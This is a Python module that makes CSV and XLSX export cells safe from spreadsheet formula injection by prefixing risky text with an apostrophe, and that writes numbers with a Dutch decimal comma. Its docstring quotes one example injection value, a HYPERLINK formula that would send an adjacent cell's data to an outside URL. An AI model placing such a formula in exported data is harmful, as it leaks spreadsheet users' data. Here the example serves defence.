"""Cells of a CSV or XLSX file made safe to open in Excel, and numbers written as Dutch Excel
reads them.

Spreadsheet programs run a cell that starts with '=', '+', '-' or '@' as a formula (and some
treat a leading tab or carriage return the same way): a location named
`=HYPERLINK("http://…"&A2,"Team Noord")` would become a live link that sends the cell next to
it away. Every text cell of every export goes through `safe_cell`: such a cell gets a leading
apostrophe (OWASP's advice), so it is shown as text and never run. Text is normalised as well
(storage.text), since XLSX is XML and refuses control characters.
"""

from __future__ import annotations

from storage.text import clean_text

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
Cell = str | int | float | None


def safe_text(text: str) -> str:
    """`text` normalised, with an apostrophe before it when a spreadsheet would run it."""
    text = clean_text(text)
    return "'" + text if text.startswith(FORMULA_START) else text


def safe_cell(value: Cell) -> Cell:
    """Text made safe (see `safe_text`); numbers and empty cells stay as they are."""
    return safe_text(value) if isinstance(value, str) else value


def csv_cell(value: Cell, digits: int = 1) -> str:
    """A cell for a CSV file with ';' between cells, as Dutch Excel opens it: a decimal comma."""
    if value is None:
        return ""
    if isinstance(value, float):
        return f"{value:.{digits}f}".replace(".", ",")
    if isinstance(value, int):
        return str(value)
    return safe_text(value)
